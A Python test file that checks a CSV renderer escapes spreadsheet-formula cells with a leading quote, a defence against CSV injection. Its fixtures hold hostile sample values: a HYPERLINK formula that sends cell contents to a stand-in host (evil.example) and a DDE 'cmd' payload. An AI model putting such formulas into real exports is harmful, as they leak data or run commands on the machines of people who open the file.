"""CSV output is opened in spreadsheets: a cell that starts like a formula (a source title or a
fact from a web page) is led by ``'`` so it shows as text and is not evaluated."""

from __future__ import annotations

import pandas as pd

from oo_nb.cli.library import render


def test_formula_cells_are_led_by_a_quote() -> None:
    frame = pd.DataFrame(
        {
            "title": ['=HYPERLINK("https://evil.example/?"&A1,"x")', "+cmd|' /C calc'!A0", "Fine"],
            "fact": ["@SUM(1,2)", "-2+3", "\tTab"],
            "n": [-1, 2, 3],
        }
    )
    lines = render(frame, "csv").splitlines()
    assert lines[1].startswith("\"'=HYPERLINK(")
    assert lines[2].startswith("'+cmd|")
    assert "'@SUM" in lines[1] and "'-2+3" in lines[2] and "'\tTab" in lines[3]
    assert lines[1].endswith(",-1")  # numbers are not text: kept as they are
    assert lines[3].startswith("Fine,")


def test_arrow_string_columns_are_covered() -> None:
    frame = pd.DataFrame({"title": pd.array(["=1+1", "ok"], dtype="string[pyarrow]")})
    assert render(frame, "csv").splitlines()[1:] == ["'=1+1", "ok"]


def test_other_formats_and_the_frame_itself_are_untouched() -> None:
    frame = pd.DataFrame({"title": ["=1+1"]})
    render(frame, "csv")
    assert frame.loc[0, "title"] == "=1+1"
    assert '"=1+1"' in render(frame, "json")
